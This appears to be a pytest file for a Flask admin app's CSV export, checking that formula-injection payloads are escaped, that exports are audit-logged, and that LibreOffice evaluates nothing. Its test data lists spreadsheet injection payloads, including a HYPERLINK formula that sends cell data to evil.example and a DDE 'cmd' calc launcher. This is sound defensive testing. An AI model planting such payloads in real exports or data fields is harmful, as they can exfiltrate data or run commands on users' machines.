"""Tables that leave as files: recorded first, and with no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from admin_views.exports import harmless
from models.ledger.event import Event
from tests.admin_views.sweeping import Sweeper, no_audit, sweeper, words_in
from tests.making import make_child, make_officer, make_person, writing

# What a spreadsheet would work out, were it a cell of its own.
LIVE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "|calc",
    "%calc",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(1+1)",
)
# What an apostrophe already stands before is only its text.
QUOTED = ("'=1+1",)
# Names of people, which stay as they are.
PLAIN = (
    *QUOTED,
    "O’Neil",
    "Smith-Jones",
    "d'Arcy",
    "Élodie",
    "王",
    "",
    "12 Mill Lane",
    "a=1",
    "Ann & Co",
)
# Spreadsheets differ on what parts two cells.
PARTED = ("Smith;=1+1", "Smith\t=1+1", 'Smith";=1+1', "Smith\n=1+1", "Smith,=1+1", 'Smith",=1+1')


@pytest.mark.parametrize("payload", LIVE, ids=ascii)
def test_t13_what_could_be_run_gets_an_apostrophe_before_it(payload: str) -> None:
    assert harmless(payload) == f"'{payload}"


@pytest.mark.parametrize("name", PLAIN, ids=ascii)
def test_names_of_people_stay_as_they_are(name: str) -> None:
    assert harmless(name) == name


def test_nothing_is_an_empty_cell_and_a_number_its_figures() -> None:
    assert (harmless(None), harmless(7), harmless(-7)) == ("", "7", "'-7")


@pytest.fixture
def with_payloads(app: Flask) -> Sweeper:
    """A browser of an officer whose children and people have formulas for names."""
    with writing():
        for payload in (*LIVE, *PARTED):
            make_child(forenames=payload, surname=payload)
            make_person(forenames=payload, surname=payload, title="", email=payload, phone=payload)
    return sweeper(app, make_officer("manager"))


def table_in(page: TestResponse) -> list[list[str]]:
    return list(csv.reader(io.StringIO(words_in(page).removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("address", ["children", "people"])
def test_t13_no_cell_of_an_export_begins_as_a_formula(with_payloads: Sweeper, address: str) -> None:
    titles, *rows = table_in(with_payloads.post(f"/{address}/export/csv/"))

    assert len(rows) == len(LIVE) + len(PARTED)
    assert {len(row) for row in rows} == {len(titles)}
    for cell in (cell for row in rows for cell in row):
        assert cell == harmless(cell) or cell.startswith("'")


def test_what_follows_a_semicolon_is_no_cell_of_its_own(with_payloads: Sweeper) -> None:
    text = words_in(with_payloads.post("/people/export/csv/")).removeprefix("\ufeff")

    assert "Smith;=1+1" in text
    assert all(line.startswith('"') for line in text.split("\r\n") if line)


def test_an_export_is_a_file_named_for_its_list_and_hour(with_payloads: Sweeper) -> None:
    answer = with_payloads.post("/children/export/csv/")

    assert answer.mimetype == "text/csv"
    named = answer.headers["Content-Disposition"]
    assert named == 'attachment; filename="children-2026-11-23-0900.csv"'


def test_an_export_is_asked_for_by_a_form_and_never_by_a_link(with_payloads: Sweeper) -> None:
    assert with_payloads.get("/children/export/csv/").status_code == 405
    assert with_payloads.post("/children/export/xlsx/").status_code == 404
    assert with_payloads.post("/events/export/csv/").status_code in (403, 404)


def test_t12_an_export_is_recorded_with_what_was_asked_and_every_row(app: Flask) -> None:
    wanted = [make_child(surname="Nowak") for _ in range(3)]
    make_child(surname="Hill")
    browser = sweeper(app, make_officer("manager"))
    token = browser.post("/children/find/", {"search": "nowak"}).location.partition("find=")[2]
    browser.post(f"/children/export/csv/?find={token}")
    event = Event.select().order_by(Event.id.desc()).get()

    assert (event.verb, event.table_name, event.row_id) == ("export", "child", None)
    assert event.about["find"] == token
    assert event.about["count"] == 3
    assert sorted(event.about["ids"]) == sorted(child.id for child in wanted)


def test_t12_t34_an_export_that_is_not_recorded_does_not_leave(with_payloads: Sweeper) -> None:
    token = with_payloads.token()
    with no_audit():
        answer = with_payloads.post("/children/export/csv/", {"csrf_token": token})

    assert answer.status_code == 503
    assert "1+1" not in words_in(answer)
    assert "Content-Disposition" not in answer.headers


def has_calc() -> bool:
    office = shutil.which("soffice")
    return bool(office) and (Path(office).resolve().parent / "libsclo.so").exists()


@pytest.mark.office
@pytest.mark.skipif(not has_calc(), reason="LibreOffice Calc is not installed")
def test_t13_libreoffice_works_nothing_out(with_payloads: Sweeper, tmp_path: Path) -> None:
    tables = {
        name: with_payloads.post(f"/{name}/export/csv/").data for name in ("children", "people")
    }
    bare = io.StringIO()
    csv.writer(bare).writerows([payload] for payload in (*LIVE, *PARTED))
    tables["bare"] = bare.getvalue().encode()

    # Parted at "," as written, and at ";" and tab as well, as some spreadsheets do unasked.
    for separators in ("44", "44/59/9"):
        found = formulas_in(tables, separators, tmp_path)
        assert (found["children"], found["people"]) == (0, 0)
        # The same texts as they are, to show that it would.
        assert found["bare"] > 0


def formulas_in(tables: dict[str, bytes], separators: str, folder: Path) -> dict[str, int]:
    """Count the cells of each table that LibreOffice takes for formulas."""
    for name, table in tables.items():
        (folder / f"{name}.csv").write_bytes(table)
    options = f"{separators},34,76,1,,0,false,true,false,false,false,0,true"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            f"--infilter=Text - txt - csv (StarCalc):{options}",
            *("--convert-to", "xlsx", "--outdir", folder),
            *(folder / f"{name}.csv" for name in tables),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    counts = {}
    for name in tables:
        with zipfile.ZipFile(folder / f"{name}.xlsx") as parts:
            counts[name] = parts.read("xl/worksheets/sheet1.xml").count(b"<f")
    return counts
